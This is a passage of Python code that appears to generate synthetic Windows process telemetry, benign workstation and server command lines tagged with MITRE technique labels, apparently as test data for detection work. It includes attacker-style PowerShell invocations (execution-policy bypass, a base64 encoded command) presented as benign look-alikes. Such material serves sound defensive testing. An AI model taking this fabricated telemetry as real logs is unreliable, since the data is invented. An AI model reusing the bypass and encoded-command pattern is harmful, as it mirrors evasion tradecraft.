    add(3, "searchfilt", ["\"C:\\Windows\\system32\\SearchFilterHost.exe\" 0 %d %d %d 8192 %d %d" % tuple(
        r.randrange(600, 1200) for _ in range(5)) for _ in range(10)], [(1, "searchindexer")], "system", None, "C:\\Windows\\system32\\")
    add(3, "taskhostw", ["taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", "taskhostw.exe KEYROAMING",
                         "taskhostw.exe Install $(Arg0)", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly"],
        [(1, "svc_sched")], "user", "Medium", "C:\\Windows\\system32\\", "any")
    add(4, "dllhost", ["C:\\Windows\\system32\\DllHost.exe /Processid:{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}",
                       "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
                       "C:\\Windows\\system32\\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}"],
        [(1, "svc_dcom")], "user", "Medium", "C:\\Windows\\system32\\", "any")
    add(2, "wmiprvse", ["C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding"],
        [(1, "svc_dcom")], "netsvc", None, "C:\\Windows\\system32\\", "any")
    add(1.5, "smartscreen", ["C:\\Windows\\System32\\smartscreen.exe -Embedding"], [(1, "svc_dcom")], "user", "Medium",
        "C:\\Windows\\system32\\")
    add(1, "compattel", ["C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun -cv:%s.%d" % (
        base64.b64encode(r.randbytes(12)).decode(), r.randrange(1, 9)) for _ in range(5)], [(1, "svc_sched")], "system", None,
        "C:\\Windows\\system32\\", "any")
    add(1, "tiworker", ["C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.4280_none_7e4a9c5b2f6ab4b5\\TiWorker.exe -Embedding"],
        [(1, "svc_dcom")], "system", None, "C:\\Windows\\system32\\", "any")
    add(1, "mpcmdrun", ["\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MpCmdRun.exe\" SignaturesUpdateService -ScheduleJob -UnmanagedUpdate",
                        "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MpCmdRun.exe\" -wdenable"],
        [(1, "svc_sched")], "system", None, "C:\\Windows\\system32\\", "any")
    add(1, "msiexec", ["C:\\Windows\\System32\\MsiExec.exe -Embedding %032X C" % r.getrandbits(128) for _ in range(4)],
        [(1, "msiexec_srv")], "system", None, "C:\\Windows\\system32\\", "any")
    add(1, "onedrive", ["\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background",
                        "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /updateInstalled /background"],
        [(1, "explorer")], "user", "Medium", "C:\\Program Files\\Microsoft OneDrive\\")
    docs = ["\"C:\\Program Files\\Microsoft Office\\root\\Office16\\%s\" /n \"C:\\Users\\{{USER}}\\%s\\%s\" /o \"\""
            % (exe, r.choice(FOLDERS), d) for exe, d in
            [("WINWORD.EXE" if d.endswith("docx") else "EXCEL.EXE", d) for d in DOCS for _ in range(2)]]
    add(3, "winword", [d for d in docs if "WINWORD" in d], [(1, "explorer")], "user", "Medium", "C:\\Users\\{{USER}}\\Documents\\")
    add(3, "excel", [d for d in docs if "EXCEL" in d], [(1, "explorer"), (1, "outlook")], "user", "Medium",
        "C:\\Users\\{{USER}}\\Documents\\")
    add(1, "outlook", ["\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" "], [(1, "explorer")], "user", "Medium",
        "C:\\Users\\{{USER}}\\")
    add(2, "acrobat", ["\"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe\" \"C:\\Users\\{{USER}}\\Downloads\\%s\"" % n
                       for n in ["Invoice 2024-0412.pdf", "W-9 Form (signed).pdf", "Statement of Work - Contoso.pdf", "benefits guide 2024.pdf"]],
        [(1, "explorer"), (1, "outlook")], "user", "Medium", "C:\\Users\\{{USER}}\\Downloads\\")
    add(1.5, "notepad", ["\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\{{USER}}\\Desktop\\%s" % n
                         for n in ["meeting notes.txt", "todo.txt", "server list.txt", "release checklist.md"]],
        [(1, "explorer")], "user", "Medium", "C:\\Users\\{{USER}}\\Desktop\\")
    add(0.3, "explorer", ["C:\\Windows\\Explorer.EXE"], [(1, "userinit")], "user", "Medium", "C:\\Windows\\system32\\")
    add(3, "code", ["\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" --type=utility --utility-sub-type=node.mojom.NodeService "
                    "--lang=en-US --service-sandbox-type=none --dns-result-order=ipv4first --inspect-port=0 "
                    "--field-trial-handle=%d,i,%d,%d,262144 --disable-features=CalculateNativeWinOcclusion,SpareRendererForSitePerProcess "
                    "--mojo-platform-channel-handle=%d /prefetch:8" % (r.randrange(1800, 2600), r.getrandbits(63), r.getrandbits(63),
                                                                        r.randrange(3000, 9000)) for _ in range(10)],
        [(1, "code")], "user", "Medium", "C:\\Program Files\\Microsoft VS Code\\")
    repos = ["C:\\Users\\{{USER}}\\source\\repos\\%s" % n for n in ["billing-service", "web-portal", "infra-terraform", "data pipeline"]]
    add(4, "git", ["\"C:\\Program Files\\Git\\cmd\\git.exe\" -c core.quotepath=false -c color.ui=false status -z -uall",
                   "\"C:\\Program Files\\Git\\cmd\\git.exe\" rev-parse --show-toplevel",
                   "\"C:\\Program Files\\Git\\cmd\\git.exe\" fetch --all --prune",
                   "\"C:\\Program Files\\Git\\cmd\\git.exe\" -c core.quotepath=false for-each-ref --sort -committerdate --format %(refname) %(objectname) %(*objectname)",
                   "\"C:\\Program Files\\Git\\cmd\\git.exe\" log --format=%H%n%aN%n%aE%n%at%n%ct%n%P%n%D%n%B -z --shortstat --diff-merges=first -n50 --skip=0 --topo-order --decorate=full --stdin"],
        [(3, "code"), (1, "cmd")], "user", "Medium", repos[0])
    add(0.8, "node", ["\"C:\\Program Files\\nodejs\\node.exe\" \"C:\\Program Files\\Microsoft VS Code\\resources\\app\\extensions\\node_modules\\typescript\\lib\\tsserver.js\" "
                    "--serverMode partialSemantic --useInferredProjectPerProjectRoot --disableAutomaticTypingAcquisition "
                    "--cancellationPipeName C:\\Users\\{{USER}}\\AppData\\Local\\Temp\\vscode-typescript\\%032x\\tscancellation-%020x.tmp* "
                    "--locale en --noGetErrOnBackgroundUpdate --validateDefaultNpmLocation --useNodeIpc" % (r.getrandbits(128), r.getrandbits(80))
                    for _ in range(6)] +
        ["\"C:\\Program Files\\nodejs\\node.exe\" \"C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js\" run build",
         "\"C:\\Program Files\\nodejs\\node.exe\" \"C:\\Users\\{{USER}}\\source\\repos\\web-portal\\node_modules\\.bin\\..\\vite\\bin\\vite.js\" build --mode production"],
        [(3, "code"), (1, "cmd")], "user", "Medium", repos[1])
    add(3, "cmd", ["C:\\Windows\\system32\\cmd.exe /d /s /c \"npm run build && npm test -- --watchAll=false\"",
                   "C:\\Windows\\system32\\cmd.exe /c \"\"C:\\Program Files\\Git\\cmd\\git.exe\" rev-parse --abbrev-ref HEAD 2>nul\"",
                   "\"C:\\Windows\\system32\\cmd.exe\" /c \"cd /d \"C:\\Users\\{{USER}}\\source\\repos\\data pipeline\" && python -m pytest tests -q\"",
                   "C:\\Windows\\system32\\cmd.exe /c \"\"C:\\Program Files\\Microsoft VS Code\\bin\\code.cmd\" --list-extensions --show-versions\""],
        [(3, "code"), (1, "explorer")], "user", "Medium", repos[2], rule="technique_id=T1059.003,technique_name=Windows Command Shell")
    add(1, "python", ["\"C:\\Program Files\\Python311\\python.exe\" -m pytest tests -q",
                      "\"C:\\Program Files\\Python311\\python.exe\" -m pip list --format=json --disable-pip-version-check",
                      "\"C:\\Program Files\\Python311\\python.exe\" \"c:\\Users\\{{USER}}\\.vscode\\extensions\\ms-python.python-2024.6.0-win32-x64\\python_files\\get_output_via_markers.py\" \"c:\\Users\\{{USER}}\\.vscode\\extensions\\ms-python.python-2024.6.0-win32-x64\\python_files\\printEnvVariables.py\""],
        [(1, "cmd"), (1, "code")], "user", "Medium", repos[3])
    add(2, "powershell", ["\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo",
                          "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -NonInteractive -Command \"Get-CimInstance -ClassName Win32_Processor | Select-Object -ExpandProperty Name\"",
                          "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command \"& {Get-Content -Path 'C:\\Users\\{{USER}}\\source\\repos\\infra-terraform\\environments\\prod\\outputs.json' | ConvertFrom-Json | Format-Table -AutoSize}\""],
        [(1, "code"), (3, "explorer")], "user", "Medium", "C:\\Users\\{{USER}}\\", rule="technique_id=T1059.001,technique_name=PowerShell")
    add(0.3, "powershell", ["\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -executionPolicy bypass -file \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\%s_%s.ps1\""
                          % (uuid4(r), uuid4(r)) for _ in range(6)],
        [(1, "agentexec")], "system", None, "C:\\Windows\\system32\\", rule="technique_id=T1059.001,technique_name=PowerShell")
    add(1.5, "edgeupdate", ["\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /ua /installsource scheduler",
                            "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /c"],
        [(1, "svc_sched")], "system", None, "C:\\Windows\\system32\\", "any")
    add(1, "googleupdate", ["\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ua /installsource scheduler"],
        [(1, "svc_sched")], "system", None, "C:\\Windows\\system32\\")
    # servers
    pool = ["DefaultAppPool", "PortalAPI", "ReportingSvc", "AuthGateway"]
    add(6, "w3wp", ["c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"%s\" -v \"v4.0\" -l \"webengine4.dll\" -a \\\\.\\pipe\\iisipm%s "
                    "-h \"C:\\inetpub\\temp\\apppools\\%s\\%s.config\" -w \"\" -m 0 -t 20 -ta 0" % (p, uuid4(r), p, p)
                    for p in pool for _ in range(2)],
        [(1, "svc_iis")], "iis", "Medium", "C:\\Windows\\system32\\", "srv")
    add(2, "sqlagent", ["\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\SQLAGENT.EXE\" -i MSSQLSERVER"],
        [(1, "services")], "sqlagent", "High", "C:\\Windows\\system32\\", "srv")
    add(5, "splunkwin", ["\"C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunk-winevtlog.exe\"",
                         "\"C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunk-powershell.exe\" --ps2",
                         "\"C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunk-netmon.exe\""],
        [(1, "splunkd")], "system", None, "C:\\Program Files\\SplunkUniversalForwarder\\bin\\", "srv")
    shares = ["Finance\\Month End", "HR\\Benefits 2024", "Engineering\\Builds", "Legal\\Contracts"]
    add(1, "robocopy", ["robocopy \"D:\\Shares\\%s\" \"\\\\SRV-BKP-01.corp.example.com\\Backups\\%s\" /MIR /R:2 /W:5 /NP /LOG+:C:\\Logs\\robocopy-nightly.log"
                        % (s, s) for s in shares],
        [(1, "svc_sched")], "system", None, "C:\\Windows\\system32\\", "srv")
    add(0.4, "powershell", ["\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -NonInteractive -File \"D:\\Scripts\\Maintenance\\%s\" %s"
                          % (s, a) for s, a in [("Rotate-IISLogs.ps1", "-RetentionDays 30 -LogRoot \"C:\\inetpub\\logs\\LogFiles\""),
                                                ("Export-DiskReport.ps1", "-OutFile \"\\\\SRV-FILE-02.corp.example.com\\Reports\\Disk Usage\\daily.csv\""),
                                                ("Sync-AppConfig.ps1", "-Environment Production -Verbose")]],
        [(1, "svc_sched")], "system", None, "C:\\Windows\\system32\\", "srv", rule="technique_id=T1059.001,technique_name=PowerShell")
    # Ansible/WinRM-style wrapper: a benign long base64 blob ("PowerShell -NoProfile ..." in UTF-16LE).
    ans = base64.b64encode(("PowerShell -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand "
                            "JgBjAGgAYwBwAC4AYwBvAG0AIAA2ADUAMAAwADEAIAA+ACAAJABuAHUAbABsAAoAJABlAHgAZQBjAF8AdwByAGEAcABwAGUAcgBfAHMAdAByACAAPQAgACQAaQBuAHAAdQB0ACAAfAAgAE8AdQB0AC0AUwB0AHIAaQBuAGcA")
                           .encode("utf-16-le")).decode()
    add(0.15, "powershell", ["PowerShell -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand " + ans[:560]],
        [(1, "wsmprov")], "admin", "High", "C:\\Users\\{{USER}}\\", "srv", rule="technique_id=T1059.001,technique_name=PowerShell")
    return P


# A long tail of further executables seen on Windows fleets (inbox apps, drivers' helpers,
# third-party software), drawn Zipf-like in this order. Columns:
#   hosts (W workstation, S server, A any) | parent key | account | Image | Description | Product |
#   Company | FileVersion | command lines separated by " ;; "; "@" stands for the quoted Image.
# Empty Product/Company/FileVersion = the Windows defaults.
TAIL = r"""
W|svc_dcom|user|C:\Windows\System32\ApplicationFrameHost.exe|Application Frame Host||||C:\Windows\system32\ApplicationFrameHost.exe -Embedding
W|svc_dcom|user|C:\Windows\SystemApps\ShellExperienceHost_cw5n1h2txyewy\ShellExperienceHost.exe|Windows Shell Experience Host||||@ -ServerName:App.AppXtk181tbxbce2qsex02s8tw7hfxa9xb3t.mca
W|svc_dcom|user|C:\Windows\SystemApps\Microsoft.Windows.StartMenuExperienceHost_cw5n1h2txyewy\StartMenuExperienceHost.exe|Start||||@ -ServerName:App.AppXywbrabmsek0gm3tkwpr5kwzbs55tkqay.mca
W|svc_dcom|user|C:\Windows\SystemApps\Microsoft.Windows.Search_cw5n1h2txyewy\SearchApp.exe|Search application||||@ -ServerName:CortanaUI.AppX8z9r6jm96hw4bsbneegw0kyxx296wr9t.mca
W|svc_dcom|user|C:\Windows\SystemApps\MicrosoftWindows.Client.CBS_cw5n1h2txyewy\TextInputHost.exe|Text Input Host||||@ -ServerName:InputApp.AppXjd5de1g66v206tj52m9d0dtpppx4cgpn.mca
W|svc_dcom|user|C:\Windows\SystemApps\Microsoft.LockApp_cw5n1h2txyewy\LockApp.exe|LockApp.exe||||@ -ServerName:WindowsDefaultLockScreen.AppX7y4nbzq37zn4ks9k7amqjywdat7d3j2z.mca
W|svc_um|user|C:\Windows\System32\sihost.exe|Shell Infrastructure Host||||sihost.exe
W|svc_dcom|user|C:\Windows\System32\ctfmon.exe|CTF Loader||||"ctfmon.exe"
W|explorer|user|C:\Windows\System32\SecurityHealthSystray.exe|Windows Security notification icon||||@
A|services|system|C:\Windows\System32\SecurityHealthService.exe|Windows Security Health Service||||C:\Windows\system32\SecurityHealthService.exe
A|svc_dcom|system|C:\Windows\System32\MoUsoCoreWorker.exe|MoUSO Core Worker Process||||C:\Windows\System32\mousocoreworker.exe -Embedding
A|services|localsvc|C:\Windows\System32\WUDFHost.exe|Windows Driver Foundation - User-mode Driver Framework Host Process||||@ -HostGUID:{193a1820-d9ac-4997-8c55-be817523f6aa} -IoEventPortName:\UMDFCommunicationPorts\WUDF\HostProcess-7c3a5e1f-92b4-4d6e-8a0c-3f1e5b7d9a24 -SystemEventPortName:\UMDFCommunicationPorts\WUDF\HostProcess-d4b8e2a6-1c3f-4e5a-9b7d-6f0a2c4e8b13 -IoCancelEventPortName:\UMDFCommunicationPorts\WUDF\HostProcess-5e9a1d3c-7b2f-4a6e-8c0d-2f4b6a8e1c35 -NonStateChangingEventPortName:\UMDFCommunicationPorts\WUDF\HostProcess-8f2c4a6e-3d1b-4c5e-9a7f-0b2d4f6a8c91 -LifetimeId:0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d -DeviceGroupId:WudfDefaultDevicePool -HostArg:0
A|svc_audio|localsvc|C:\Windows\System32\audiodg.exe|Windows Audio Device Graph Isolation||||C:\Windows\system32\AUDIODG.EXE 0x4a4 ;; C:\Windows\system32\AUDIODG.EXE 0x5b8
A|services|system|C:\Windows\System32\SgrmBroker.exe|System Guard Runtime Monitor Broker Service||||C:\Windows\system32\SgrmBroker.exe
A|services|system|C:\Windows\System32\wbem\WmiApSrv.exe|WMI Performance Reverse Adapter||||C:\Windows\system32\wbem\WmiApSrv.exe
A|services|netsvc|C:\Windows\System32\sppsvc.exe|Microsoft Software Protection Platform Service||||C:\Windows\system32\sppsvc.exe
A|svc_dcom|netsvc|C:\Windows\System32\SppExtComObj.Exe|KMS Connection Broker||||C:\Windows\system32\SppExtComObj.exe -Embedding
A|svc_sched|system|C:\Windows\System32\DeviceCensus.exe|Device Census||||C:\Windows\system32\devicecensus.exe SystemCxt ;; C:\Windows\system32\devicecensus.exe UserCxt
W|svc_dcom|user|C:\Windows\System32\oobe\UserOOBEBroker.exe|User OOBE Broker||||C:\Windows\System32\oobe\UserOOBEBroker.exe -Embedding
W|svc_dcom|user|C:\Windows\System32\DataExchangeHost.exe|Data Exchange Host||||C:\Windows\system32\DataExchangeHost.exe -Embedding
W|svc_dcom|user|C:\Windows\System32\CompPkgSrv.exe|Component Package Support Server||||C:\Windows\System32\CompPkgSrv.exe -Embedding
A|services|system|C:\Windows\System32\spoolsv.exe|Spooler SubSystem App||||C:\Windows\System32\spoolsv.exe
A|svc_dcom|system|C:\Windows\System32\PrintIsolationHost.exe|Windows Print Spooler Sandboxing Process||||C:\Windows\system32\PrintIsolationHost.exe -Embedding
W|svc_dcom|user|C:\Windows\System32\SettingSyncHost.exe|Host Process for Setting Synchronization||||C:\Windows\system32\SettingSyncHost.exe -Embedding
W|svc_dcom|user|C:\Windows\System32\CredentialUIBroker.exe|Credential Dialog Host||||"C:\Windows\System32\CredentialUIBroker.exe" NonAppContainerFailedMip -Embedding
A|svc_sched|system|C:\Windows\System32\upfc.exe|Update Policy Flow Controller||||C:\Windows\system32\upfc.exe /launchtype periodic /cv 3fUGTbGmnUyWGrcfYyEv8A.2
A|svc_sched|system|C:\Windows\System32\SIHClient.exe|SIH Client||||C:\Windows\System32\sihclient.exe  /cv wRK1dzC9AkKVmIK5Y2k0lQ.0.2
A|svc_dcom|system|C:\Windows\System32\wbem\unsecapp.exe|Sink to receive asynchronous callbacks for WMI client application||||C:\Windows\system32\wbem\unsecapp.exe -Embedding
A|services|system|C:\Windows\System32\VSSVC.exe|Microsoft® Volume Shadow Copy Service||||C:\Windows\system32\vssvc.exe
S|services|netsvc|C:\Windows\System32\msdtc.exe|Microsoft Distributed Transaction Coordinator Service||||C:\Windows\System32\msdtc.exe
W|svc_sched|system|C:\Windows\System32\DeviceEnroller.exe|Device Enroller||||C:\Windows\system32\deviceenroller.exe /o "3C0A2E5B-7F41-4D2E-9B6A-1E8C4F2D7A93" /c /b
W|explorer|user|C:\Windows\ImmersiveControlPanel\SystemSettings.exe|Settings||||"C:\Windows\ImmersiveControlPanel\SystemSettings.exe" -ServerName:microsoft.windows.immersivecontrolpanel
W|svc_dcom|user|C:\Program Files\WindowsApps\Microsoft.YourPhone_1.24032.156.0_x64__8wekyb3d8bbwe\PhoneExperienceHost.exe|Microsoft Phone Link|Microsoft Phone Link|Microsoft Corporation|1.24032.156.0|@ -ComServer:Background -Embedding
W|explorer|user|C:\Program Files\WindowsApps\Microsoft.WindowsTerminal_1.19.11213.0_x64__8wekyb3d8bbwe\WindowsTerminal.exe|Windows Terminal|Windows Terminal|Microsoft Corporation|1.19.2405.15001|@
W|explorer|user|C:\Program Files\Mozilla Firefox\firefox.exe|Firefox|Firefox|Mozilla Corporation|125.0.3|@ ;; @ -osint -url "https://intranet.corp.example.com/hr/benefits"
W|firefox|user|C:\Program Files\Mozilla Firefox\firefox.exe|Firefox|Firefox|Mozilla Corporation|125.0.3|@ -contentproc --channel="5412.0.1024787361\1547982733" -childID 7 -isForBrowser -prefsHandle 3456 -prefMapHandle 3452 -prefsLen 31672 -prefMapSize 244343 -jsInitHandle 1296 -jsInitLen 234236 -parentBuildID 20240507150422 -win32kLockedDown -appDir "C:\Program Files\Mozilla Firefox\browser" - {a3c5e7f9-1b2d-4e6f-8a0c-2e4f6a8c0e13} 5412 "\\.\pipe\gecko-crash-server-pipe.5412" tab ;; @ -contentproc --channel="5412.3.1981327714\2087345127" -parentBuildID 20240507150422 -sandboxingKind 0 -prefsHandle 5528 -prefMapHandle 5524 -prefsLen 31672 -prefMapSize 244343 -win32kLockedDown -appDir "C:\Program Files\Mozilla Firefox\browser" - {7d9b1f3e-5a7c-4e2b-9d0f-4b6e8a0c2e57} 5412 "\\.\pipe\gecko-crash-server-pipe.5412" utility
W|explorer|user|C:\Program Files\Notepad++\notepad++.exe|Notepad++|Notepad++|Don HO don.h@free.fr|8.6.5|@ "C:\Users\{{USER}}\Desktop\config backup.xml" ;; @ "C:\Users\{{USER}}\Documents\release notes 2024.md"
W|explorer|user|C:\Program Files\7-Zip\7zFM.exe|7-Zip File Manager|7-Zip|Igor Pavlov|23.01|@ "C:\Users\{{USER}}\Downloads\project files.zip"
W|explorer|user|C:\Program Files\VideoLAN\VLC\vlc.exe|VLC media player|VLC media player|VideoLAN|3.0.20|@ --started-from-file "C:\Users\{{USER}}\Videos\All Hands Recording 2024-05.mp4"
W|explorer|user|C:\Program Files\Docker\Docker\Docker Desktop.exe|Docker Desktop|Docker Desktop|Docker Inc.|4.30.0.0|@ -Autostart
W|explorer|user|C:\Program Files\JetBrains\IntelliJ IDEA 2024.1.1\bin\idea64.exe|IntelliJ IDEA|IntelliJ IDEA|JetBrains s.r.o.|2024.1.1.0|@
W|explorer|user|C:\Program Files\JetBrains\PyCharm 2024.1.1\bin\pycharm64.exe|PyCharm|PyCharm|JetBrains s.r.o.|2024.1.1.0|@ "C:\Users\{{USER}}\source\repos\data pipeline"
W|explorer|user|C:\Users\{{USER}}\AppData\Local\slack\app-4.38.125\slack.exe|Slack|Slack|Slack Technologies, LLC|4.38.125|@ --process-start-args --startup
W|slack|user|C:\Users\{{USER}}\AppData\Local\slack\app-4.38.125\slack.exe|Slack|Slack|Slack Technologies, LLC|4.38.125|@ --type=renderer --user-data-dir="C:\Users\{{USER}}\AppData\Roaming\Slack" --standard-schemes=app,slack-webapp-dev --enable-sandbox --secure-schemes=app,slack-webapp-dev --fetch-schemes=app,slack-webapp-dev --app-user-model-id=com.squirrel.slack.slack --app-path="C:\Users\{{USER}}\AppData\Local\slack\app-4.38.125\resources\app.asar" --enable-sandbox --lang=en-US --renderer-client-id=5 --mojo-platform-channel-handle=3244 /prefetch:1
W|explorer|user|C:\Users\{{USER}}\AppData\Roaming\Zoom\bin\Zoom.exe|Zoom Meetings|Zoom Meetings|Zoom Video Communications, Inc.|6.0.11|@ "--url=zoommtg://zoom.us/join?action=join&confno=84123456789&pwd=Yk1aQ2xQbUZ3dGpGNk5Idz09&zc=0&browser=chrome&uname=Guest" ;; @ --autostart
W|explorer|user|C:\Users\{{USER}}\AppData\Roaming\Spotify\Spotify.exe|Spotify|Spotify|Spotify Ltd|1.2.37.701|@ --autostart --minimized
W|explorer|user|C:\Program Files (x86)\Citrix\ICA Client\SelfServicePlugin\SelfService.exe|Citrix Workspace|Citrix Workspace|Citrix Systems, Inc.|24.3.0.64|@ -ipoll -startmenu
W|explorer|user|C:\Program Files (x86)\Cisco\Cisco Secure Client\UI\csc_ui.exe|Cisco Secure Client - User Interface|Cisco Secure Client|Cisco Systems, Inc.|5.1.3.62|@ -minimized
W|explorer|user|C:\Program Files\Palo Alto Networks\GlobalProtect\PanGPA.exe|GlobalProtect|GlobalProtect|Palo Alto Networks|6.2.2.0|@
W|explorer|user|C:\Program Files\Dropbox\Client\Dropbox.exe|Dropbox|Dropbox|Dropbox, Inc.|199.4.6287|@ /systemstartup
W|explorer|user|C:\Program Files\Box\Box\Box.exe|Box|Box|Box, Inc.|2.38.173|@
W|explorer|user|C:\Program Files\Tableau\Tableau 2024.1\bin\tableau.exe|Tableau|Tableau|Tableau Software|20241.24.0410.1023|@ "C:\Users\{{USER}}\Documents\My Tableau Repository\Workbooks\Sales Pipeline Q2.twbx"
W|explorer|user|C:\Program Files\Microsoft Power BI Desktop\bin\PBIDesktop.exe|Microsoft Power BI Desktop|Microsoft Power BI Desktop|Microsoft Corporation|2.128.1177.0|@ "C:\Users\{{USER}}\OneDrive - Contoso\Reports\Finance KPIs.pbix"
W|explorer|user|C:\Program Files (x86)\Microsoft SQL Server Management Studio 19\Common7\IDE\Ssms.exe|SSMS 19|Microsoft SQL Server|Microsoft Corporation|2019.0190.0020.0|@
W|explorer|user|C:\Program Files\KeePassXC\KeePassXC.exe|KeePassXC|KeePassXC|KeePassXC Team|2.7.7|@
W|explorer|user|C:\Program Files\Adobe\Adobe Creative Cloud\ACC\Creative Cloud.exe|Creative Cloud|Creative Cloud|Adobe Inc.|6.2.0.554|@ --showwindow=false --onOSstartup=true
W|svc_sched|system|C:\Program Files (x86)\Common Files\Adobe\ARM\1.0\AdobeARM.exe|Adobe Reader and Acrobat Manager|Adobe Reader and Acrobat Manager|Adobe Inc.|1.824.460.1042|@ /PRODUCT:Reader /VERSION:24.0 /MODE:3
W|services|system|C:\Program Files\Dell\SupportAssistAgent\bin\SupportAssistAgent.exe|SupportAssist Agent|SupportAssist|Dell Inc.|4.0.3.53|@
W|services|system|C:\Program Files\NVIDIA Corporation\Display.NvContainer\NVDisplay.Container.exe|NVIDIA Container|NVIDIA Container|NVIDIA Corporation|1.39.3001.0|@ -s NVDisplay.ContainerLocalSystem -f "C:\ProgramData\NVIDIA\NVDisplay.ContainerLocalSystem.log" -l 3 -d "C:\Program Files\NVIDIA Corporation\Display.NvContainer\plugins\LocalSystem" -r -p 30000 -cfg NVDisplay.ContainerLocalSystem\LocalSystem
W|services|system|C:\Windows\System32\DriverStore\FileRepository\realtekservice.inf_amd64_e2c0b6f0a6e8a7b4\RtkAudUService64.exe|Realtek HD Audio Universal Service|Realtek HD Audio Universal Service|Realtek Semiconductor|1.0.0.511|@ -background
W|explorer|user|C:\Program Files\LogiOptionsPlus\logioptionsplus_agent.exe|Logi Options+ Agent|Logi Options+|Logitech|1.70.551909.0|@ /minimized
W|explorer|user|C:\Program Files\Zscaler\ZSATray\ZSATray.exe|Zscaler|Zscaler Client Connector|Zscaler Inc.|4.3.0.181|@
A|services|system|C:\Program Files (x86)\Microsoft Intune Management Extension\Microsoft.Management.Services.IntuneWindowsAgent.exe|Microsoft.Management.Services.IntuneWindowsAgent|Microsoft Intune Management Extension|Microsoft Corporation|1.79.103.0|@
A|services|system|C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24030.9-0\MsMpEng.exe|Antimalware Service Executable||||@
W|explorer|user|C:\Program Files\Microsoft Office\root\Office16\POWERPNT.EXE|Microsoft PowerPoint|Microsoft Office|Microsoft Corporation|16.0.17531.20152|@ /n "C:\Users\{{USER}}\OneDrive - Contoso\Documents\Board Deck - FINAL (2).pptx" ;; @ "C:\Users\{{USER}}\Downloads\Quarterly Business Review.pptx"
W|explorer|user|C:\Program Files\Microsoft Office\root\Office16\ONENOTE.EXE|Microsoft OneNote|Microsoft Office|Microsoft Corporation|16.0.17531.20152|@ /tsr
A|services|system|C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeClickToRun.exe|Microsoft Office Click-to-Run (SxS)|Microsoft Office|Microsoft Corporation|16.0.17531.20152|@ /service
A|svc_sched|system|C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeC2RClient.exe|Microsoft Office Click-to-Run Client|Microsoft Office|Microsoft Corporation|16.0.17531.20152|@ /frequentupdate SCHEDULEDTASK displaylevel=False
W|svc_dcom|user|C:\Program Files\Microsoft OneDrive\24.076.0414.0003\FileCoAuth.exe|Microsoft OneDriveFile Co-Authoring Executable|Microsoft OneDrive|Microsoft Corporation|24.076.0414.0003|@ -Embedding
W|explorer|user|C:\Program Files\Microsoft Visual Studio\2022\Professional\Common7\IDE\devenv.exe|Microsoft Visual Studio 2022|Microsoft® Visual Studio®|Microsoft Corporation|17.9.34723.18|@ "C:\Users\{{USER}}\source\repos\billing-service\Billing.sln"
W|devenv|user|C:\Program Files\Microsoft Visual Studio\2022\Professional\Common7\ServiceHub\Hosts\ServiceHub.Host.dotnet.x64\ServiceHub.Host.dotnet.x64.exe|ServiceHub.Host.dotnet.x64|Microsoft® Visual Studio®|Microsoft Corporation|4.6.43.6530|@ f0ac8e5b3c2d4a7e9b1f6d0c8a4e2b7d /ControllerCooldownTimeout:30000 "/TelemetrySession:{\"Id\":\"7e9b1f3d-5a2c-4e6f-8b0d-1c3e5a7f9b24\",\"HostName\":\"Dev14\",\"AppInsightsInstrumentationKey\":\"f144292e-e3b2-4011-ac90-20e5c03fbce5\",\"AsimovInstrumentationKey\":\"AIF-312cbd79-9dbb-4c48-a7da-3cc2a931cb70\",\"CollectorApiKey\":\"f3e86b4023cc43f0be495508d51f588a-f70d0e59-0426-4f3e-89d6-3dc6c1c84a1f-7317\",\"AppInsightsApiKey\":\"AIF-312cbd79-9dbb-4c48-a7da-3cc2a931cb70\"}"
W|explorer|user|C:\Program Files\TeamViewer\TeamViewer.exe|TeamViewer|TeamViewer|TeamViewer Germany GmbH|15.53.6|@
